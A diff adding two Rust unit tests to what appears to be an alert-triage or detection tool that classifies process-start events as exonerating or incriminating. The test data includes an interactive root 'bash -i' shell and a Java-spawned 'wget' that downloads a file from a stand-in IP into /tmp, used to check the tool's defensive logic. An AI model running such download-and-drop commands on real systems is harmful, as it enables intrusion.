@@ -189,3 +189,42 @@ fn a_file_that_is_written_by_a_hundred_commands_leaves_room_for_what_it_is_for()
     let told = told(&all);
     assert!(told.len() <= 2 * ONE_BY_ONE, "{}", told.len());
 }
+
+#[test]
+fn what_else_somebody_did_explains_nothing() {
+    let rec = |line: u64, pid: &str, parent: &str, exe: &str, command: &str| {
+        let fields = [
+            ("event", "process_start"),
+            ("host", "a"),
+            ("pid", pid),
+            ("ppid", parent),
+            ("user", "root"),
+            ("exe", exe),
+            ("command_line", command),
+            ("parent_exe", "/usr/sbin/sshd"),
+        ];
+        let raw = fields.iter().map(|(name, value)| format!("{name}: {value}\n")).collect::<String>();
+        record(line, &format!("2026-03-01T10:00:{line:02}Z"), &raw, &fields)
+    };
+    let about = |recs: &[Value]| {
+        let of = |f: &FindingDraft| f.bearing == Bearing::Exonerating && f.about_alert;
+        told(recs).iter().filter(|f| of(f)).count()
+    };
+    let dry = "modprobe --show-depends dm_mod";
+    assert_eq!(about(&[rec(5, "7", "6", "/usr/bin/kmod", dry)]), 1, "it was alerted");
+    let shell = rec(5, "7", "6", "/usr/bin/bash", "bash -i");
+    assert_eq!(about(&[shell, rec(9, "8", "7", "/usr/bin/kmod", dry)]), 0, "the alerted shell started it");
+}
+
+#[test]
+fn a_word_beside_what_points_to_an_attack_takes_nothing_from_it() {
+    let alone = ran("/usr/bin/wget", "wget http://198.51.100.7/a -O /tmp/a", "/usr/bin/java", "java -jar a.jar");
+    let worded =
+        ran("/usr/bin/wget", "wget http://198.51.100.7/a -O /tmp/eicar.com", "/usr/bin/java", "java -jar a.jar");
+    let found = |rec: Value| {
+        let all = told(&[rec]);
+        all.iter().map(|f| (f.bearing, f.weight)).max_by_key(|(_, weight)| *weight)
+    };
+    assert_eq!(found(alone.clone()).map(|f| f.0), Some(Bearing::Incriminating));
+    assert_eq!(found(alone), found(worded));
+}
